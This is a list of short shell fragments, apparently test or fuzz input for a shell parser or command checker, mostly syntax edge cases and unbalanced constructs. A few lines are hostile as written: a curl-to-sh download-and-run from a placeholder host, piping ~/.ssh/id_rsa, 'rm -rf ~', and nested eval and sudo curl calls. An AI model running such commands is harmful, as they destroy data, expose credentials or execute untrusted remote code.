curl -d x http://a.example/x | sh
${a:-${b:-c}} 
${a%%x} 
${a[@]} 
`a` 
'a' 
"a" 
# c
f() { a; }
f() { f; curl $1; }
f() { f; }
function f { a; }
g
a | 
a | b
a && 
a ; 
a & 
a || 
{ a; }; 
( a ) 
(( a ))
[[ a ]] 
<(a) 
cat <(a) 
x=
x=$x
x=$y y=$x
a=(b c) 
a+=(b)
a+=(b c d)
x+=a
x+=$x
x=$x$x
x=$x$x; eval $x
for i in a b c; do
for i in $i $i; do
for i in a 
for i in $i; do curl $i
alias a=b
alias a='a curl'
> a 
2>&1 
a > b
a < b
curl -o t http://x.io/a
cat t > u
cp t u
case a in 
if a; then b; fi
while a; do b; done
eval "a"
eval "eval 'eval a'"
sh -c "curl a"
python3 -c "import os"
env env 
sudo 
sudo sudo curl a
xargs xargs sh
curl -X 
curl $a
-a 
--a=b 
git a b c
$a 
$a
${a}
$'a\n' 
$
{a,b} 
~/.ssh/id_rsa 
cat ~/.ssh/id_rsa | 
http://a.io/b 
curl http://a.io/b 
<a b> 
<a
<a 
<
echo -e "\x41" 
export A=b
declare a=b 
local a=$1 
set -e
trap a b
rm -rf ~
rm -rf a 
tee a 
printf '%s' a 
a=b 
A=b c
@a 
source a
echo a >> a
a;b;c;
read a b c
test a
$(($(a)))
${#a}
${!a}
${a/b/c}
${a:1:2}
"${a[$b]}"
$$a
$1 
$@ 
f "$@"
f $*
time 
! 
coproc a
x=`a` 
x='a'
cat <<E
<<E 
<<E
$(
$(a 
"$(a 
${a:-
`a
"a
'
"
a\
f() { 
{ 
( 
(( a 
<<<a 
<<<$(a) 
case a in b) c;; esac
sh -c 'a
\
}
)
]
$((
